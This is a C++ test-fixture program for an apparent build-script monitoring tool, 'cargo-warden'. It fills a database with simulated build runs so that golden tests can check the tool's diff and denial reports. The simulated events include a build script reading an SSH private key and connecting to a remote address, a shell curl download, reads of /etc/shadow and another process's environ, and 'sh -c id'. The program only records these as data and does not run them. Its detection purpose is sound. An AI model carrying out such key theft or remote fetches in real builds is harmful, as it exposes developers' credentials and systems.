// fill_db: writes, through the Store API, the runs the golden tests read back
// with `cargo-warden diff` and `show`, so their outputs can be checked
// without a real build.
//
//   fill_db upgrade DB WORKSPACE   two runs of WORKSPACE: before (1) and
//                                  after (2) an upgrade that adds risky
//                                  behaviour
//   fill_db denials DB RUN WORKSPACE
//                                  one invocation with denied requests in
//                                  run RUN (a stand-in cargo calls this)
//
// Registry crates live under $CARGO_HOME, home reads under $HOME: the
// outputs show them as {cargo_home} and {home}.
#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <string>
#include <vector>

#include "absl/strings/numbers.h"
#include "absl/strings/str_cat.h"
#include "db/store.h"

namespace warden {
namespace {

std::string Env(const char* name) {
  const char* value = std::getenv(name);
  return value == nullptr ? "" : value;
}

// Crate is one build-script run: where it lives and what it did.
struct Crate {
  std::string name;
  std::string version;
  std::string source;  // "path" (under the workspace) or "registry"
  std::vector<Event> events;
};

Event Ev(Op op, std::string target, std::string detail = "",
         bool allowed = true) {
  Event e;
  e.op = op;
  e.target = std::move(target);
  e.detail = std::move(detail);
  e.allowed = allowed;
  return e;
}

absl::Status Add(Store& store, int64_t run, const std::string& workspace,
                 const Crate& crate) {
  InvocationRecord inv;
  inv.run_id = run;
  inv.package = crate.name;
  inv.version = crate.version;
  inv.source = crate.source;
  inv.sysroot = "/opt/rust";
  inv.manifest_dir =
      crate.source == "path"
          ? absl::StrCat(workspace, "/", crate.name)
          : absl::StrCat(Env("CARGO_HOME"), "/registry/src/index/", crate.name,
                         "-", crate.version);
  inv.out_dir = absl::StrCat(workspace, "/target/debug/build/", crate.name,
                             "-0123456789abcdef/out");
  inv.binary_sha256 = std::string(64, '0');
  inv.started_ms = 1700000000000;
  inv.ended_ms = 1700000000500;
  absl::StatusOr<int64_t> id = store.AddInvocation(inv, crate.events);
  if (!id.ok()) return id.status();
  std::vector<Directive> directives;
  for (const Event& e : crate.events) {
    if (e.op != Op::kDirective || !e.allowed) continue;
    const size_t eq = e.target.find('=');
    directives.push_back(
        {*id, e.target.substr(0, eq), e.target.substr(eq + 1)});
  }
  return directives.empty() ? absl::OkStatus() : store.AddDirectives(directives);
}

absl::Status AddRun(Store& store, const std::string& workspace,
                    const std::string& mode, int64_t started_ms,
                    const std::vector<Crate>& crates) {
  RunRecord record;
  record.mode = mode;
  record.workspace_root = workspace;
  record.policy_path = workspace + "/warden.yaml";
  record.cargo_args = "build --offline";
  record.started_ms = started_ms;
  absl::StatusOr<int64_t> run = store.BeginRun(record);
  if (!run.ok()) return run.status();
  if (absl::Status s = store.Resolve(*run); !s.ok()) return s;
  for (const Crate& crate : crates)
    if (absl::Status s = Add(store, *run, workspace, crate); !s.ok()) return s;
  return store.EndRun(*run, 0);
}

// Gen reads its template and writes generated code; with `ssh`, it also
// reads a private key and phones home.
Crate Gen(const std::string& ws, bool ssh) {
  const std::string out = ws + "/target/debug/build/gen-0123456789abcdef/out";
  Crate c{"gen", "0.1.0", "path",
          {Ev(Op::kRead, ws + "/gen/templates/api.tmpl"),
           Ev(Op::kCreate, out + "/api.rs"),
           Ev(Op::kDirective, "rerun-if-changed=templates")}};
  if (ssh) {
    c.events.push_back(Ev(Op::kRead, Env("HOME") + "/.ssh/id_ed25519"));
    c.events.push_back(Ev(Op::kConnect, "tcp:203.0.113.7:443"));
  }
  return c;
}

std::vector<Crate> Before(const std::string& ws) {
  return {
      Gen(ws, false),
      {"net-sys", "0.1.0", "path",
       {Ev(Op::kExec, "/usr/bin/pkg-config", "pkg-config --libs zlib"),
        Ev(Op::kRead, "/usr/lib/x86_64-linux-gnu/pkgconfig/zlib.pc"),
        Ev(Op::kDirective, "rustc-link-lib=z")}},
      {"ring", "0.16.20", "registry",
       {Ev(Op::kExec, "/usr/bin/cc", "cc -c crypto/aes.c"),
        Ev(Op::kRead,
           Env("CARGO_HOME") + "/registry/src/index/ring-0.16.20/crypto/aes.c"),
        Ev(Op::kRead,
           Env("CARGO_HOME") + "/registry/src/index/ring-0.16.20/crypto/old.c")}},
  };
}

std::vector<Crate> After(const std::string& ws) {
  return {
      Gen(ws, true),
      {"net-sys", "0.2.0", "path",
       {Ev(Op::kExec, "/usr/bin/pkg-config", "pkg-config --libs zlib"),
        Ev(Op::kExec, "/bin/sh", "sh -c curl -sO https://example.com/z.tgz"),
        Ev(Op::kExec, "/usr/bin/curl", "curl -sO https://example.com/z.tgz"),
        Ev(Op::kWrite, ws + "/src/lib.rs"),
        Ev(Op::kDirective, "rustc-link-lib=z"),
        Ev(Op::kDirective, "rustc-link-arg=-Wl,-rpath,/tmp/z")}},
      {"ring", "0.17.8", "registry",
       {Ev(Op::kExec, "/usr/bin/cc", "cc -c crypto/aes.c"),
        Ev(Op::kRead,
           Env("CARGO_HOME") + "/registry/src/index/ring-0.17.8/crypto/aes.c")}},
      {"evil", "0.1.0", "registry",
       {Ev(Op::kConnect, "tcp:198.51.100.1:80")}},
  };
}

// Denied is what enforce reports: one of each shape of denial, and an
// allowed request that must not show.
Crate Denied(const std::string& ws) {
  Event probe = Ev(Op::kRead, "/etc/shadow", "", false);
  probe.count = 3;
  // Hidden, not denied: another process's environ, which no line can grant.
  Event hidden = Ev(Op::kRead, "/proc/4242/environ", std::string(kOtherProcess), false);
  hidden.error = ENOENT;
  hidden.count = 12;
  return {"gen", "0.1.0", "path",
          {Ev(Op::kRead, ws + "/gen/templates/api.tmpl"), probe,
           Ev(Op::kRead, Env("HOME") + "/.ssh/id_ed25519", "", false),
           Ev(Op::kExec, "/bin/sh", "sh -c id", false),
           Ev(Op::kConnect, "tcp:203.0.113.7:443", "", false),
           Ev(Op::kRename, ws + "/target/debug/build/gen-0123456789abcdef/out/a",
              ws + "/src/lib.rs", false),
           Ev(Op::kDirective, "rustc-link-arg=-Wl,-rpath,/tmp/z",
              "rustc-link-arg=-Wl,-rpath,/tmp/z", false),
           hidden}};
}

int Usage() {
  std::fprintf(stderr,
               "usage: fill_db upgrade DB WORKSPACE | denials DB RUN WORKSPACE\n");
  return 2;
}

int Main(const std::vector<std::string>& args) {
  if (args.size() < 3) return Usage();
  absl::StatusOr<std::unique_ptr<Store>> store = Store::Open(args[1]);
  if (!store.ok()) {
    std::fprintf(stderr, "fill_db: %s\n", store.status().ToString().c_str());
    return 1;
  }
  absl::Status status;
  int64_t run = 0;
  if (args[0] == "upgrade" && args.size() == 3) {
    status = AddRun(**store, args[2], "learn", 1700000000000, Before(args[2]));
    if (status.ok())
      status = AddRun(**store, args[2], "learn", 1700000100000, After(args[2]));
  } else if (args[0] == "denials" && args.size() == 4 &&
             absl::SimpleAtoi(args[2], &run)) {
    status = Add(**store, run, args[3], Denied(args[3]));
  } else {
    return Usage();
  }
  if (!status.ok()) {
    std::fprintf(stderr, "fill_db: %s\n", status.ToString().c_str());
    return 1;
  }
  return 0;
}

}  // namespace
}  // namespace warden

int main(int argc, char** argv) {
  return warden::Main(std::vector<std::string>(argv + 1, argv + argc));
}
